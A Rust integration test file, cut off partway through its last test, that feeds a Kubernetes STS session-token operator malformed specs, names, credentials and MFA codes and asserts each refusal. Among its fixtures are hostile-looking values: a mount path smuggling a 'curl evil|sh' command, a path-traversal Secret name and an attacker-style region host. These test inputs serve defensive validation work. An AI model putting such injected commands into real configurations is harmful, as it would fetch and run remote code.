//! Bad input, end to end: every case asserts its exact outcome. Either the API server refuses
//! it at apply (schema, CEL, object-meta validation) with a message naming the field, or the
//! operator shows it as a `Ready`/`Issuing` reason with a readable message, without an STS
//! call it should not make. Throughout, no operator panics or exits.

#[path = "../operator/common.rs"]
mod common;
#[path = "../support/summary.rs"]
mod summary;

use anyhow::{Context as _, Result, bail, ensure};
use common::*;
use k8s_openapi::ByteString;
use k8s_openapi::api::core::v1::{ConfigMap, Secret};
use kube::api::{Api, ApiResource, DynamicObject, Patch, PatchParams, PostParams};
use serde_json::json;
use std::collections::BTreeMap;
use std::time::{Duration, Instant};
use testkit::sts_double::{CodePolicy, StsDouble, StsDoubleConfig};

const T: Duration = Duration::from_secs(30);

fn double() -> StsDouble {
    StsDouble::start(StsDoubleConfig {
        code_policy: CodePolicy::AcceptAny,
        ..Default::default()
    })
    .expect("STS double")
}

fn opts(endpoint: String) -> OperatorOptions {
    OperatorOptions {
        sts_endpoint: endpoint,
        extra_args: vec![],
        leader_election: false,
        user: OPERATOR_USER,
    }
}

fn with(extra: serde_json::Value) -> serde_json::Value {
    let mut spec =
        json!({"durationSeconds": 900, "sourceCredentials": {"secretRef": {"name": "iam-keys"}}});
    for (k, v) in extra.as_object().expect("an object") {
        spec[k] = v.clone();
    }
    spec
}

fn source_ref(extra: serde_json::Value) -> serde_json::Value {
    let mut r = json!({"name": "iam-keys"});
    for (k, v) in extra.as_object().expect("an object") {
        r[k] = v.clone();
    }
    with(json!({"sourceCredentials": {"secretRef": r}}))
}

/// No operator process panicked or exited.
fn check_operator(op: &Operator) -> Result<()> {
    let log = op.log();
    ensure!(
        !log.contains("panicked"),
        "the operator panicked:\n{}",
        op.process.log_tail(60)
    );
    ensure!(
        op.process.is_running(),
        "the operator exited:\n{}",
        op.process.log_tail(40)
    );
    Ok(())
}

/// Creates a SessionToken from a whole object (metadata included), sent as is.
async fn create_object(ns: &Ns, obj: serde_json::Value) -> Result<()> {
    let ar = ApiResource::erase::<sts_session_operator::crd::SessionToken>(&());
    let api: Api<DynamicObject> = Api::namespaced_with(ns.client.clone(), &ns.name, &ar);
    let mut obj = obj;
    obj["apiVersion"] = json!("stssession.dev/v1alpha1");
    obj["kind"] = json!("SessionToken");
    api.create(&PostParams::default(), &serde_json::from_value(obj)?)
        .await?;
    Ok(())
}

/// The API server's message of a refusal.
fn refusal(e: &anyhow::Error) -> String {
    match e.downcast_ref::<kube::Error>() {
        Some(kube::Error::Api(s)) => s.message.clone(),
        _ => format!("{e:#}"),
    }
}

async fn create_secret(ns: &Ns, name: &str, data: BTreeMap<&str, Vec<u8>>) -> Result<()> {
    let secret = Secret {
        metadata: kube::api::ObjectMeta {
            name: Some(name.into()),
            ..Default::default()
        },
        data: Some(
            data.into_iter()
                .map(|(k, v)| (k.to_string(), ByteString(v)))
                .collect(),
        ),
        ..Default::default()
    };
    ns.secrets().create(&PostParams::default(), &secret).await?;
    Ok(())
}

#[tokio::test]
async fn bad_specs_and_metadata_are_refused_at_apply_with_the_field_named() -> Result<()> {
    let cp = control_plane().await;
    let ns = Ns::new(cp, "bad-apply").await?;
    let serial = |s: &str| with(json!({"mfa": {"serialNumber": s}}));
    const ROLE: &str = "arn:aws:iam::123456789012:role/deployer";
    let role = |r: serde_json::Value| with(json!({"assumeRole": r}));
    // (spec, what the refusal must say)
    let specs: Vec<(serde_json::Value, &[&str])> = vec![
        // durations out of range or of the wrong type
        (
            with(json!({"durationSeconds": 899})),
            &["spec.durationSeconds", "greater than or equal to 900"],
        ),
        (
            with(json!({"durationSeconds": 129601})),
            &["spec.durationSeconds", "less than or equal to 129600"],
        ),
        (
            with(json!({"durationSeconds": -1})),
            &["spec.durationSeconds", "greater than or equal to 900"],
        ),
        (
            with(json!({"durationSeconds": 0})),
            &["spec.durationSeconds", "greater than or equal to 900"],
        ),
        (
            with(json!({"durationSeconds": 99_999_999_999i64})),
            &["spec.durationSeconds", "less than or equal to 129600"],
        ),
        (
            with(json!({"durationSeconds": "3600"})),
            &["spec.durationSeconds", "must be of type"],
        ),
        (
            with(json!({"durationSeconds": 3600.5})),
            &["spec.durationSeconds", "must be of type"],
        ),
        (
            with(json!({"durationSeconds": true})),
            &["spec.durationSeconds", "must be of type"],
        ),
        // serial numbers: short, long, spaces, unicode, empty, missing, wrong type
        (
            serial("short"),
            &["spec.mfa.serialNumber", "at least 9 chars long"],
        ),
        (
            serial(""),
            &["spec.mfa.serialNumber", "at least 9 chars long"],
        ),
        (
            serial(&"a".repeat(257)),
            &[
                "spec.mfa.serialNumber",
                "Too long: may not be more than 256 bytes",
            ],
        ),
        (
            serial("arn:aws:iam::123456789012:mfa/bad name"),
            &["spec.mfa.serialNumber", "should match"],
        ),
        (
            serial("arn:aws:iam::123456789012:mfa/jané"),
            &["spec.mfa.serialNumber", "should match"],
        ),
        (
            serial("arn:aws:iam::123456789012:mfa/alice\n"),
            &["spec.mfa.serialNumber", "should match"],
        ),
        (
            serial("arn:aws:iam::１２３:mfa/alice"),
            &["spec.mfa.serialNumber", "should match"],
        ),
        (
            with(json!({"mfa": {}})),
            &["spec.mfa.serialNumber", "Required value"],
        ),
        (
            with(json!({"mfa": {"serialNumber": 123456789012i64}})),
            &["spec.mfa.serialNumber", "must be of type string"],
        ),
        // renewal
        (
            with(json!({"renewal": {"renewBeforePercentage": 10, "renewBefore": "1h"}})),
            &["spec.renewal", "not both"],
        ),
        (
            with(json!({"renewal": {"renewBeforePercentage": 0}})),
            &[
                "spec.renewal.renewBeforePercentage",
                "greater than or equal to 1",
            ],
        ),
        (
            with(json!({"renewal": {"renewBeforePercentage": 100}})),
            &[
                "spec.renewal.renewBeforePercentage",
                "less than or equal to 99",
            ],
        ),
        (
            with(json!({"renewal": {"renewBefore": "1 hour"}})),
            &["spec.renewal.renewBefore", "should match"],
        ),
        (
            with(json!({"renewal": {"renewBefore": "-5m"}})),
            &["spec.renewal.renewBefore", "should match"],
        ),
        (
            with(json!({"renewal": {"renewBefore": "2d"}})),
            &["spec.renewal.renewBefore", "should match"],
        ),
        // issue 13: at least a minute, and what spec.secret adds to the Secret is capped
        (
            with(json!({"renewal": {"renewBefore": "0s"}})),
            &["spec.renewal.renewBefore", "at least one minute"],
        ),
        (
            with(json!({"secret": {"annotations": {"note": "x".repeat(300 * 1024)}}})),
            &["spec.secret.annotations", "1024"],
        ),
        (
            with(json!({"renewal": {"renewBefore": ""}})),
            &["spec.renewal.renewBefore", "should match"],
        ),
        // region and endpoint syntax
        (
            with(json!({"region": "US-EAST-1"})),
            &["spec.region", "should match"],
        ),
        (
            with(json!({"region": "us-east-1.evil.example"})),
            &["spec.region", "should match"],
        ),
        (
            with(json!({"region": ""})),
            &["spec.region", "at least 1 chars long"],
        ),
        (
            with(json!({"endpoint": ""})),
            &["spec.endpoint", "at least 1 chars long"],
        ),
        (
            with(json!({"endpoint": format!("https://{}.example", "a".repeat(600))})),
            &["spec.endpoint", "Too long: may not be more than 512 bytes"],
        ),
        // names of Secrets: empty, huge, unicode, path tricks, the source as output
        (
            source_ref(json!({"name": ""})),
            &[
                "spec.sourceCredentials.secretRef.name",
                "at least 1 chars long",
            ],
        ),
        (
            source_ref(json!({"name": "a".repeat(254)})),
            &[
                "spec.sourceCredentials.secretRef.name",
                "Too long: may not be more than 253 bytes",
            ],
        ),
        (
            source_ref(json!({"name": "ключи"})),
            &["spec.sourceCredentials.secretRef.name", "should match"],
        ),
        (
            source_ref(json!({"name": "IAM-Keys"})),
            &["spec.sourceCredentials.secretRef.name", "should match"],
        ),
        (
            source_ref(json!({"name": "../kube-system/keys"})),
            &["spec.sourceCredentials.secretRef.name", "should match"],
        ),
        (
            source_ref(json!({"accessKeyIdKey": ""})),
            &[
                "spec.sourceCredentials.secretRef.accessKeyIdKey",
                "at least 1 chars long",
            ],
        ),
        (
            source_ref(json!({"secretAccessKeyKey": ""})),
            &[
                "spec.sourceCredentials.secretRef.secretAccessKeyKey",
                "at least 1 chars long",
            ],
        ),
        (
            source_ref(json!({"secretAccessKeyKey": "secret key"})),
            &[
                "spec.sourceCredentials.secretRef.secretAccessKeyKey",
                "should match",
            ],
        ),
        (
            source_ref(json!({"accessKeyIdKey": "ключ"})),
            &[
                "spec.sourceCredentials.secretRef.accessKeyIdKey",
                "should match",
            ],
        ),
        (
            json!({"durationSeconds": 900}),
            &["spec.sourceCredentials", "Required value"],
        ),
        (
            json!({"durationSeconds": 900, "sourceCredentials": {}}),
            &["spec.sourceCredentials.secretRef", "Required value"],
        ),
        (
            with(json!({"secret": {"name": "iam-keys"}})),
            &["must differ from the source Secret"],
        ),
        (
            with(json!({"secret": {"name": "Out_Secret"}})),
            &["spec.secret.name", "should match"],
        ),
        (
            with(json!({"secret": {"name": "a".repeat(254)}})),
            &[
                "spec.secret.name",
                "Too long: may not be more than 253 bytes",
            ],
        ),
        // output shape
        (
            with(json!({"secret": {"formats": ["Bogus"]}})),
            &["spec.secret.formats[0]", "Unsupported value: \"Bogus\""],
        ),
        (
            with(json!({"secret": {"formats": []}})),
            &["spec.secret.formats", "at least 1 items"],
        ),
        (
            with(json!({"secret": {"formats": ["EnvVars", "EnvVars"]}})),
            &["spec.secret.formats[1]", "Duplicate value"],
        ),
        (
            with(json!({"secret": {"mountPath": "relative/dir"}})),
            &["spec.secret.mountPath", "should match"],
        ),
        (
            with(json!({"secret": {"mountPath": "/tmp/x;curl evil|sh"}})),
            &["spec.secret.mountPath", "should match"],
        ),
        (
            with(json!({"secret": {"mountPath": "/tmp/a b"}})),
            &["spec.secret.mountPath", "should match"],
        ),
        (
            with(json!({"rolloutRestartTargets": [{"kind": "Pod", "name": "x"}]})),
            &[
                "spec.rolloutRestartTargets[0].kind",
                "Unsupported value: \"Pod\"",
            ],
        ),
        (
            with(json!({"rolloutRestartTargets": [{"kind": "Deployment", "name": "Bad Name"}]})),
            &["spec.rolloutRestartTargets[0].name", "should match"],
        ),
        // spec.assumeRole
        (
            role(json!({})),
            &["spec.assumeRole.roleArn", "Required value"],
        ),
        (
            role(json!({"roleArn": "arn:aws:iam::123:role/deployer"})),
            &["spec.assumeRole.roleArn", "should match"],
        ),
        (
            role(json!({"roleArn": "arn:aws:iam::123456789012:user/alice"})),
            &["spec.assumeRole.roleArn", "should match"],
        ),
        (
            role(json!({"roleArn": "arn:aws:iam::123456789012:role/bad name"})),
            &["spec.assumeRole.roleArn", "should match"],
        ),
        (
            role(json!({"roleArn": "role/x"})),
            &["spec.assumeRole.roleArn", "at least 20 chars long"],
        ),
        (
            role(json!({"roleArn": ROLE, "durationSeconds": 899})),
            &[
                "spec.assumeRole.durationSeconds",
                "greater than or equal to 900",
            ],
        ),
        (
            role(json!({"roleArn": ROLE, "durationSeconds": 3601})),
            &[
                "spec.assumeRole.durationSeconds",
                "less than or equal to 3600",
            ],
        ),
        (
            role(json!({"roleArn": ROLE, "roleSessionName": "a"})),
            &["spec.assumeRole.roleSessionName", "at least 2 chars long"],
        ),
        (
            role(json!({"roleArn": ROLE, "roleSessionName": "my session"})),
            &["spec.assumeRole.roleSessionName", "should match"],
        ),
        (
            role(json!({"roleArn": ROLE, "roleSessionName": "x".repeat(65)})),
            &[
                "spec.assumeRole.roleSessionName",
                "Too long: may not be more than 64 bytes",
            ],
        ),
        (
            role(json!({"roleArn": ROLE, "externalId": "ext id"})),
            &["spec.assumeRole.externalId", "should match"],
        ),
        (
            role(
                json!({"roleArn": ROLE, "tags": (0..51).map(|i| json!({"key": format!("k{i}"), "value": "v"})).collect::<Vec<_>>()}),
            ),
            &["spec.assumeRole.tags", "must have at most 50 items"],
        ),
        (
            role(
                json!({"roleArn": ROLE, "tags": [{"key": "team", "value": "a"}, {"key": "team", "value": "b"}]}),
            ),
            &["spec.assumeRole.tags[1]", "Duplicate value"],
        ),
        (
            role(json!({"roleArn": ROLE, "tags": [{"key": "", "value": "a"}]})),
            &["spec.assumeRole.tags[0].key", "at least 1 chars long"],
        ),
        (
            role(json!({"roleArn": ROLE, "tags": [{"key": "team", "value": "a;b"}]})),
            &["spec.assumeRole.tags[0].value", "should match"],
        ),
    ];
    let mut tried = 0u64;
    let mut wrong = vec![];
    for (i, (spec, needles)) in specs.iter().enumerate() {
        tried += 1;
        let err = match ns.create_session(&format!("bad-{i}"), spec.clone()).await {
            Ok(_) => {
                wrong.push(format!("case {i} was admitted: {spec}"));
                continue;
            }
            Err(e) => refusal(&e),
        };
        if let Some(needle) = needles.iter().find(|n| !err.contains(**n)) {
            let shown = spec.to_string();
            wrong.push(format!(
                "case {i} ({}): the refusal does not say {needle:?}: {err}",
                &shown[..shown.len().min(200)]
            ));
        }
    }
    ensure!(wrong.is_empty(), "{}", wrong.join("\n"));

    // Object names (metadata), as the API server validates them for every custom resource.
    let spec = with(json!({}));
    let names: Vec<(serde_json::Value, &[&str])> = vec![
        (
            json!({}),
            &["metadata.name", "name or generateName is required"],
        ),
        (
            json!({"name": ""}),
            &["metadata.name", "name or generateName is required"],
        ),
        (
            json!({"name": "a".repeat(254)}),
            &["metadata.name", "must be no more than 253 characters"],
        ),
        (
            json!({"name": "Äpp"}),
            &["metadata.name", "RFC 1123 subdomain"],
        ),
        (
            json!({"name": "app session"}),
            &["metadata.name", "RFC 1123 subdomain"],
        ),
        (json!({"name": "app/../other"}), &["metadata.name"]),
        // 1 MiB in one annotation: annotations may hold 256 KiB in all
        (
            json!({"name": "big", "annotations": {"note": "x".repeat(1 << 20)}}),
            &["metadata.annotations", "Too long", "262144"],
        ),
    ];
    for (i, (meta, needles)) in names.iter().enumerate() {
        tried += 1;
        let err = match create_object(&ns, json!({"metadata": meta, "spec": spec})).await {
            Ok(()) => bail!("name case {i} was admitted"),
            Err(e) => refusal(&e),
        };
        for needle in needles.iter() {
            ensure!(
                err.contains(needle),
                "name case {i}: the refusal does not say {needle:?}: {}",
                &err[..err.len().min(500)]
            );
        }
    }
    // ... and added later, as a patch: refused the same way, the object left as it was.
    ns.create_session("app", spec.clone()).await?;
    tried += 1;
    let patch =
        json!({"metadata": {"annotations": {"stssession.dev/token-code": "x".repeat(1 << 20)}}});
    let err = ns
        .sessions()
        .patch("app", &PatchParams::default(), &Patch::Merge(&patch))
        .await
        .expect_err("a 1 MiB annotation was admitted");
    let err = format!("{err:#}");
    ensure!(
        err.contains("metadata.annotations") && err.contains("Too long"),
        "{}",
        &err[..err.len().min(500)]
    );
    ensure!(
        ns.session("app")
            .await?
            .metadata
            .annotations
            .unwrap_or_default()
            .is_empty()
    );
    println!("bad input at apply: {tried} cases refused with the field named");
    summary::record("badinput::refused_at_apply", &[("bad_inputs", tried)]);
    Ok(())
}

#[tokio::test]
async fn bad_sources_and_values_show_as_conditions_without_sts_calls() -> Result<()> {
    let cp = control_plane().await;
    let ns = Ns::new(cp, "bad-source").await?;
    let sts = double();
    let user = sts.default_user();
    let id = user.access_key_id.as_bytes().to_vec();
    let key = user.secret_access_key.as_bytes().to_vec();
    ns.create_source_secret("iam-keys", &user.access_key_id, &user.secret_access_key)
        .await?;
    let secrets: Vec<(&str, BTreeMap<&str, Vec<u8>>)> = vec![
        (
            "non-utf8-key",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.clone()),
                ("AWS_SECRET_ACCESS_KEY", vec![0xff, 0xfe, 0x00, 0x41]),
            ]),
        ),
        (
            "non-utf8-id",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", vec![0xc3, 0x28]),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ]),
        ),
        (
            "empty-key",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.clone()),
                ("AWS_SECRET_ACCESS_KEY", vec![]),
            ]),
        ),
        (
            "blank-key",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.clone()),
                ("AWS_SECRET_ACCESS_KEY", b" \n".to_vec()),
            ]),
        ),
        ("no-keys", BTreeMap::from([("username", b"alice".to_vec())])),
        ("empty-data", BTreeMap::new()),
        (
            "session-keys",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", b"ASIAIOSFODNN7EXAMPLE".to_vec()),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ]),
        ),
        (
            "token-beside",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.clone()),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
                ("AWS_SESSION_TOKEN", b"FwoGZXIvYXdzEXAMPLE".to_vec()),
            ]),
        ),
        (
            "lowercase-id",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.to_ascii_lowercase()),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ]),
        ),
        (
            "short-id",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", b"AKIA123".to_vec()),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ]),
        ),
        (
            "space-in-key",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", id.clone()),
                ("AWS_SECRET_ACCESS_KEY", b"abc def".to_vec()),
            ]),
        ),
        (
            "unicode-id",
            BTreeMap::from([
                ("AWS_ACCESS_KEY_ID", "AKIAÄÖÜ0123456789".as_bytes().to_vec()),
                ("AWS_SECRET_ACCESS_KEY", key.clone()),
            ]),
        ),
    ];
    for (name, data) in &secrets {
        create_secret(&ns, name, data.clone()).await?;
    }
    // Secrets at the output name that belong to someone else.
    let owner = ns.client.clone();
    let cms: Api<ConfigMap> = Api::namespaced(owner, &ns.name);
    let cm = cms
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({"metadata": {"name": "someone"}}))?,
        )
        .await?;
    let owned_elsewhere: Secret = serde_json::from_value(json!({
        "metadata": {"name": "taken-owned", "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "someone", "uid": cm.metadata.uid, "controller": true}]},
        "stringData": {"AWS_ACCESS_KEY_ID": "theirs"}
    }))?;
    ns.secrets()
        .create(&PostParams::default(), &owned_elsewhere)
        .await?;
    let unowned: Secret = serde_json::from_value(
        json!({"metadata": {"name": "taken-plain"}, "stringData": {"x": "theirs"}}),
    )?;
    ns.secrets()
        .create(&PostParams::default(), &unowned)
        .await?;
    // A Secret labelled as ours but controlled by another owner: the label alone is not enough.
    let forged: Secret = serde_json::from_value(json!({
        "metadata": {"name": "taken-forged", "labels": {"stssession.dev/session-token-uid": "forged"},
                     "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "someone", "uid": cm.metadata.uid, "controller": true}]},
        "stringData": {"x": "theirs"}
    }))?;
    ns.secrets().create(&PostParams::default(), &forged).await?;

    let op = Operator::start(cp, &ns.name, &opts(sts.endpoint())).await?;
    let src = |name: &str| with(json!({"sourceCredentials": {"secretRef": {"name": name}}}));
    let mfa = |spec: serde_json::Value| {
        let mut s = spec;
        s["mfa"] = json!({"serialNumber": user.serial_number().unwrap()});
        s
    };
    // (SessionToken, spec, Ready reason, message must say, Issuing reason if it must be set)
    let cases: Vec<(String, serde_json::Value, &str, String)> = vec![
        (
            "missing".into(),
            src("nowhere"),
            "SourceCredentialsMissing",
            "\"nowhere\" not found in this namespace".into(),
        ),
        (
            "missing-huge-name".into(),
            src(&"n".repeat(253)),
            "SourceCredentialsMissing",
            "not found in this namespace".into(),
        ),
        (
            "missing-mfa".into(),
            mfa(src("nowhere")),
            "SourceCredentialsMissing",
            "not found".into(),
        ),
        (
            "non-utf8-key".into(),
            src("non-utf8-key"),
            "SourceCredentialsInvalid",
            "key \"AWS_SECRET_ACCESS_KEY\" is not UTF-8".into(),
        ),
        (
            "non-utf8-id".into(),
            src("non-utf8-id"),
            "SourceCredentialsInvalid",
            "key \"AWS_ACCESS_KEY_ID\" is not UTF-8".into(),
        ),
        (
            "empty-key".into(),
            src("empty-key"),
            "SourceCredentialsInvalid",
            "key \"AWS_SECRET_ACCESS_KEY\" is empty".into(),
        ),
        (
            "blank-key".into(),
            src("blank-key"),
            "SourceCredentialsInvalid",
            "is empty".into(),
        ),
        (
            "no-keys".into(),
            src("no-keys"),
            "SourceCredentialsMissing",
            "has no key \"AWS_ACCESS_KEY_ID\"".into(),
        ),
        (
            "empty-data".into(),
            src("empty-data"),
            "SourceCredentialsMissing",
            "has no key".into(),
        ),
        (
            "other-key-names".into(),
            source_ref(json!({"accessKeyIdKey": "id", "secretAccessKeyKey": "secret"})),
            "SourceCredentialsMissing",
            "has no key \"id\"".into(),
        ),
        (
            "session-keys".into(),
            src("session-keys"),
            "SourceCredentialsInvalid",
            "temporary (session) key".into(),
        ),
        (
            "session-keys-mfa".into(),
            mfa(src("session-keys")),
            "SourceCredentialsInvalid",
            "temporary (session) key".into(),
        ),
        (
            "token-beside".into(),
            src("token-beside"),
            "SourceCredentialsInvalid",
            "holds a session token".into(),
        ),
        (
            "lowercase-id".into(),
            src("lowercase-id"),
            "SourceCredentialsInvalid",
            "uppercase letters and digits".into(),
        ),
        (
            "short-id".into(),
            src("short-id"),
            "SourceCredentialsInvalid",
            "16 to 128 characters".into(),
        ),
        (
            "space-in-key".into(),
            src("space-in-key"),
            "SourceCredentialsInvalid",
            "whitespace or control characters".into(),
        ),
        (
            "unicode-id".into(),
            src("unicode-id"),
            "SourceCredentialsInvalid",
            "uppercase letters and digits".into(),
        ),
        (
            "conflict-owned".into(),
            with(json!({"secret": {"name": "taken-owned"}})),
            "SecretConflict",
            "controlled by ConfigMap \"someone\"".into(),
        ),
        (
            "conflict-plain".into(),
            with(json!({"secret": {"name": "taken-plain"}})),
            "SecretConflict",
            "exists and is not managed by this SessionToken".into(),
        ),
        (
            "conflict-forged".into(),
            with(json!({"secret": {"name": "taken-forged"}})),
            "SecretConflict",
            "controlled by ConfigMap".into(),
        ),
        (
            "conflict-mfa".into(),
            mfa(with(json!({"secret": {"name": "taken-plain"}}))),
            "SecretConflict",
            "not managed".into(),
        ),
        // accepted by the schema, refused by the operator before any call
        (
            "region-dash".into(),
            with(json!({"region": "-us-east-1"})),
            "InvalidSpec",
            "region".into(),
        ),
        (
            "region-long".into(),
            with(json!({"region": "a".repeat(64)})),
            "InvalidSpec",
            "region".into(),
        ),
        (
            "region-dash-mfa".into(),
            mfa(with(json!({"region": "us-east-1-"}))),
            "InvalidSpec",
            "region".into(),
        ),
        (
            "endpoint-userinfo".into(),
            with(json!({"endpoint": "http://user:hunter2@127.0.0.1:1"})),
            "EndpointNotAllowed",
            "user information".into(),
        ),
        (
            "endpoint-unicode".into(),
            with(json!({"endpoint": "http://127.0.0.1:1/ünïcode"})),
            "EndpointNotAllowed",
            "non-ASCII".into(),
        ),
        (
            "endpoint-not-a-url".into(),
            with(json!({"endpoint": "sts.amazonaws.com"})),
            "EndpointNotAllowed",
            "not an absolute URL".into(),
        ),
        // the output Secret cannot be written as asked
        (
            "bad-label".into(),
            with(json!({"secret": {"labels": {"bad key!": "x"}}})),
            "SecretWriteFailed",
            "metadata.labels".into(),
        ),
        // (A Secret too large for the API server cannot be asked for any more: the CRD caps
        // spec.secret's annotations, issue 13.)
        // spec.assumeRole keeps the session in `<name>-session`: not also the output Secret
        (
            "session-clash".into(),
            with(
                json!({"assumeRole": {"roleArn": "arn:aws:iam::123456789012:role/deployer"}, "secret": {"name": "st-session-clash-session"}}),
            ),
            "InvalidSpec",
            "\"st-session-clash-session\", which is also the output Secret".into(),
        ),
        (
            "session-clash-mfa".into(),
            mfa(with(
                json!({"assumeRole": {"roleArn": "arn:aws:iam::123456789012:role/deployer"}, "secret": {"name": "st-session-clash-mfa-session"}}),
            )),
            "InvalidSpec",
            "spec.secret.name".into(),
        ),
    ];
    let mut tried = 0u64;
    // (Named apart from their sources: a SessionToken's output Secret may not be its source.)
    let cases: Vec<_> = cases
        .into_iter()
        .map(|(n, s, r, m)| (format!("st-{n}"), s, r, m))
        .collect();
    for (name, spec, _, _) in &cases {
        ns.create_session(name, spec.clone())
            .await
            .with_context(|| format!("creating {name}"))?;
    }
    let mut wrong = vec![];
    for (name, _, reason, needle) in &cases {
        tried += 1;
        let st = match wait_condition(&ns, name, "Ready", "False", reason, T).await {
            Ok(st) => st,
            Err(e) => {
                let st = ns.session(name).await?;
                wrong.push(format!(
                    "{name}: {e:#}; Ready: {:?}; Issuing: {:?}",
                    condition(&st, "Ready"),
                    condition(&st, "Issuing")
                ));
                continue;
            }
        };
        let message = condition(&st, "Ready").unwrap().message;
        if !message.contains(needle.as_str()) {
            wrong.push(format!(
                "{name}: Ready message {message:?} does not say {needle:?}"
            ));
        }
        ensure!(
            !message.contains("hunter2"),
            "{name}: the endpoint's password is in status"
        );
        ensure!(
            !message.contains(&user.secret_access_key),
            "{name}: the secret key is in status"
        );
    }
    ensure!(wrong.is_empty(), "{}", wrong.join("\n"));
    // A code given to a SessionToken that cannot mint is removed unused, not spent.
    tried += 1;
    ns.approve("st-region-dash-mfa", "246810", "alice").await?;
    let st = wait_condition(
        &ns,
        "st-region-dash-mfa",
        "Issuing",
        "False",
        "InvalidSpec",
        T,
    )
    .await?;
    ensure!(
        condition(&st, "Issuing")
            .unwrap()
            .message
            .contains("removed unused")
    );
    ensure!(sts.uses_of_code("246810") == 0);
    // Whatever was refused locally never reached STS; the only calls are the two bad-output
    // ones (a session minted, then not writable: kept in memory, never minted again).
    tokio::time::sleep(Duration::from_secs(3)).await;
    let calls = sts.calls();
    ensure!(
        calls
            .iter()
            .all(|c| c.access_key_id.as_deref() == Some(user.access_key_id.as_str())),
        "other keys reached STS"
    );
    ensure!(
        calls.len() <= 2,
        "{} STS calls: {:?}",
        calls.len(),
        calls.iter().map(|c| &c.outcome).collect::<Vec<_>>()
    );
    // A foreign Secret was never touched.
    let theirs = ns.secrets().get("taken-plain").await?;
    ensure!(theirs.data.unwrap_or_default().keys().collect::<Vec<_>>() == ["x"]);
    // A huge but valid SessionToken name works end to end (the output Secret is named alike).
    tried += 1;
    let long_name = format!("{}.{}", "a".repeat(126), "b".repeat(126));
    ns.create_session(&long_name, with(json!({}))).await?;
    wait_condition(&ns, &long_name, "Ready", "True", "Issued", T).await?;
    ensure!(
        ns.secret_data(&long_name)
            .await?
            .is_some_and(|d| d.contains_key("AWS_SESSION_TOKEN"))
    );
    // Fixing a broken source makes it work, without a spec change.
    tried += 1;
    ns.secrets()
        .patch(
            "empty-key",
            &PatchParams::default(),
            &Patch::Merge(json!({"stringData": {"AWS_SECRET_ACCESS_KEY": user.secret_access_key}})),
        )
        .await?;
    wait_condition(&ns, "st-empty-key", "Ready", "True", "Issued", T).await?;
    check_operator(&op)?;
    println!("bad input shown as conditions: {tried} cases");
    summary::record("badinput::conditions", &[("bad_inputs", tried)]);
    Ok(())
}

#[tokio::test]
async fn malformed_token_codes_are_dropped_unused_and_never_echoed() -> Result<()> {
    let cp = control_plane().await;
    let ns = Ns::new(cp, "bad-code").await?;
    let sts = double();
    let user = sts.default_user();
    ns.create_source_secret("iam-keys", &user.access_key_id, &user.secret_access_key)
        .await?;
    let op = Operator::start(cp, &ns.name, &opts(sts.endpoint())).await?;
    let huge = "7".repeat(200 * 1024);
    let codes: Vec<(&str, String)> = vec![
        ("leading-space", " 123456".into()),
        ("trailing-space", "123456 ".into()),
        ("inner-space", "123 456".into()),
        ("newline", "123456\n".into()),
        ("letters", "12ab56".into()),
        ("seven-digits", "1234567".into()),
        ("five-digits", "12345".into()),
        ("leading-plus", "+12345".into()),
        ("plus-six", "+123456".into()),
        ("minus", "-12345".into()),
        ("fullwidth", "１２３４５６".into()),
        ("arabic-indic", "٠١٢٣٤٥".into()),
        ("empty", "".into()),
        ("huge", huge.clone()),
        ("json", "{\"code\":123456}".into()),
    ];
    for (name, _) in &codes {
        ns.create_session(
            name,
            with(json!({"mfa": {"serialNumber": user.serial_number().unwrap()}})),
        )
        .await?;
    }
    ns.create_session("no-mfa", with(json!({}))).await?;
    for (name, _) in &codes {
        wait_condition(&ns, name, "Ready", "False", "AwaitingTokenCode", T).await?;
    }
    wait_condition(&ns, "no-mfa", "Ready", "True", "Issued", T).await?;
    let calls_before = sts.call_count();
    for (name, code) in &codes {
        ns.approve(name, code, "alice").await?;
    }
    ns.approve("no-mfa", "123456", "alice").await?;
    let mut tried = 0u64;
    for (name, _) in &codes {
        tried += 1;
        let st = wait_condition(&ns, name, "Issuing", "False", "InvalidTokenCode", T)
            .await
            .with_context(|| name.to_string())?;
        ensure!(
            condition(&st, "Issuing")
                .unwrap()
                .message
                .contains("exactly six digits"),
            "{name}: {:?}",
            condition(&st, "Issuing")
        );
        ensure!(
            cond(&st, "Ready") == ("False".into(), "AwaitingTokenCode".into()),
            "{name}: {:?}",
            cond(&st, "Ready")
        );
        let ann = st.metadata.annotations.unwrap_or_default();
        ensure!(
            !ann.contains_key("stssession.dev/token-code")
                && !ann.contains_key("stssession.dev/approved-by"),
            "{name}: not removed"
        );
    }
    tried += 1;
    eventually(
        T,
        "the code on a SessionToken without mfa removed",
        || async {
            let st = ns.session("no-mfa").await?;
            Ok((!st
                .metadata
                .annotations
                .unwrap_or_default()
                .contains_key("stssession.dev/token-code"))
            .then_some(()))
        },
    )
    .await?;
    ensure!(
        ns.event_reasons()
            .await?
            .iter()
            .any(|r| r == "TokenCodeIgnored")
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    ensure!(
        sts.call_count() == calls_before,
        "a malformed code reached STS: {:?}",
        &sts.calls()[calls_before..]
    );
    // Never echoed: not in events, status or the log (the huge one, or a recognisable one).
    let events = serde_json::to_string(&ns.events().await?)?;
    let statuses = serde_json::to_string(
        &ns.sessions()
            .list(&Default::default())
            .await?
            .items
            .iter()
            .map(|s| &s.status)
            .collect::<Vec<_>>(),
    )?;
    let log = op.log();
    let mut leaks = 0u64;
    for (what, text) in [("events", &events), ("status", &statuses), ("log", &log)] {
